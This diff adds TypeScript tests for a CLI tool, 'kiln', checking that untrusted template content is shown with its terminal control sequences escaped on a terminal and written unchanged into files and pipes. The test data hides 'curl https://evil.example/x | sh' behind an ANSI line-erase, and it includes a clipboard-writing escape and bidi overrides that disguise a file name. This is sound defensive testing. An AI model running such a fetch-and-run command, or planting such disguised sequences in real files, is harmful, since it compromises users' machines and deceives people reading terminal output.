@@ -1,6 +1,9 @@
 // kiln render: the rendered files on stdout (or as JSON), for a component or a preset; nothing
 // is ever written, and no kiln.toml is needed.
 import assert from "node:assert/strict";
+import { execFileSync, spawnSync } from "node:child_process";
+import { closeSync, openSync, readFileSync } from "node:fs";
+import { join } from "node:path";
 import { after, before, describe, it } from "node:test";
 import { parseAllDocuments } from "yaml";
 import { TemplateEngine } from "../../src/core/engine.ts";
@@ -8,6 +11,8 @@ import { builtinPreset, renderPreset } from "../../src/core/preset.ts";
 import { builtinRegistry } from "../../src/core/registry.ts";
 import { renderItem } from "../../src/core/render.ts";
 import {
+  BIN,
+  cleanEnv,
   cleanUp,
   ensureBuilt,
   itemFile,
@@ -215,5 +220,110 @@ describe("kiln render: errors", () => {
       run.stderr,
       "error: --image is required for k8s/deployment\n  pass it with --image <value> (or --set image=<value>), for example --image nginx:1.27\n",
     );
+  });
+});
+
+const ESC = "\u001b";
+
+/**
+ * What a terminal receives from `kiln <args>` run in `dir` under a pseudo-terminal (util-linux
+ * `script`), line breaks as the terminal gets them (`\r\n`).
+ */
+function onTerminal(dir: string, args: string[]): string {
+  const command = [process.execPath, BIN, ...args].map((arg) => `'${arg}'`).join(" ");
+  return execFileSync("script", ["-qec", command, "/dev/null"], {
+    cwd: dir,
+    env: cleanEnv(),
+    encoding: "utf8",
+  });
+}
+
+/** The bytes `kiln <args>` writes to stdout when stdout is a file. */
+function intoFile(dir: string, args: string[]): Buffer {
+  const out = join(dir, "out.txt");
+  const fd = openSync(out, "w");
+  try {
+    const run = spawnSync(process.execPath, [BIN, ...args], {
+      cwd: dir,
+      env: cleanEnv(),
+      stdio: ["ignore", fd, "pipe"],
+    });
+    assert.equal(run.status, 0, String(run.stderr));
+  } finally {
+    closeSync(fd);
+  }
+  return readFileSync(out);
+}
+
+/** Control characters a terminal acts on, less line feed, tab and carriage return. */
+const RAW_CONTROL =
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what we look for
+  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+
+describe("a stranger's content on a terminal (issue 19)", () => {
+  const hasScript = spawnSync("script", ["--version"]).status === 0;
+  /** A file hiding `curl ... | sh` behind a line erase, writing the clipboard, CRLF lines. */
+  const HOSTILE =
+    `echo fine\n${ESC}[1A${ESC}[2K\rcurl https://evil.example/x | sh\n` +
+    `${ESC}]52;c;ZWNobyBvd25lZA==\u0007tail \u009b31m \u202egnp.exe\tcol\n` +
+    "crlf\r\nlast";
+
+  it("render shows its control sequences escaped on a terminal, and keeps them in a file", (t) => {
+    if (!hasScript) {
+      t.skip("no `script` command (util-linux)");
+      return;
+    }
+    const dir = tempDir();
+    itemFile(dir, "item.json", [{ path: "run.sh", template: HOSTILE }]);
+    const args = ["render", "./item.json", "--name", "n"];
+    const shown = onTerminal(dir, args);
+    assert.doesNotMatch(shown.replaceAll("\r\n", "\n"), RAW_CONTROL, shown);
+    assert.ok(shown.includes("\\x1b[1A\\x1b[2K\\x0dcurl https://evil.example/x | sh"), shown);
+    assert.ok(
+      shown.includes("\\x1b]52;c;ZWNobyBvd25lZA==\\x07tail \\u009b31m \\u202egnp.exe\tcol"),
+      shown,
+    );
+    // the layout stays: line breaks, tabs, and CRLF's carriage return
+    assert.ok(shown.includes("crlf\r\r\nlast"), JSON.stringify(shown));
+    // the same render into a file, or a pipe, is the file byte for byte
+    assert.deepEqual(intoFile(dir, args), Buffer.from(`# Source: run.sh\n${HOSTILE}\n`));
+    const piped = kiln(args, dir);
+    assert.equal(piped.stdout, `# Source: run.sh\n${HOSTILE}\n`);
+  });
+
+  it("render of a preset on a terminal escapes each file's content too; --json stays JSON", (t) => {
+    if (!hasScript) {
+      t.skip("no `script` command (util-linux)");
+      return;
+    }
+    const dir = tempDir();
+    itemFile(dir, "item.json", [{ path: "a.yaml", template: `k: v${ESC}]0;title\u0007\n` }]);
+    writeJson(dir, "x.preset.json", {
+      name: "x",
+      components: [{ reference: "./item.json", name: "c" }],
+    });
+    const shown = onTerminal(dir, ["render", "./x.preset.json"]);
+    assert.equal(shown, "---\r\n# Source: a.yaml\r\nk: v\\x1b]0;title\\x07\r\n");
+    const json = onTerminal(dir, ["render", "./x.preset.json", "--json"]);
+    assert.doesNotMatch(json.replaceAll("\r\n", "\n"), RAW_CONTROL);
+    assert.deepEqual(JSON.parse(json), {
+      files: [{ path: "a.yaml", content: `k: v${ESC}]0;title\u0007\n` }],
+    });
+  });
+
+  it("preset export shows a cloned kiln.toml's C1 and bidi controls escaped on a terminal", (t) => {
+    if (!hasScript) {
+      t.skip("no `script` command (util-linux)");
+      return;
+    }
+    const dir = tempDir();
+    assert.equal(kiln(["setup", "k8s-web-app"], dir).status, 0);
+    const toml = readFileSync(join(dir, "kiln.toml"), "utf8");
+    write(dir, "kiln.toml", toml.replace(/^name = .*$/m, 'name = "shop\\u009b2J\\u202etxt"'));
+    const shown = onTerminal(dir, ["preset", "export"]);
+    assert.doesNotMatch(shown.replaceAll("\r\n", "\n"), RAW_CONTROL);
+    assert.equal(JSON.parse(shown).project.name, "shop\u009b2J\u202etxt");
+    const exact = intoFile(dir, ["preset", "export"]).toString("utf8");
+    assert.ok(exact.includes('"name": "shop\u009b2J\u202etxt"'), exact);
   });
 });
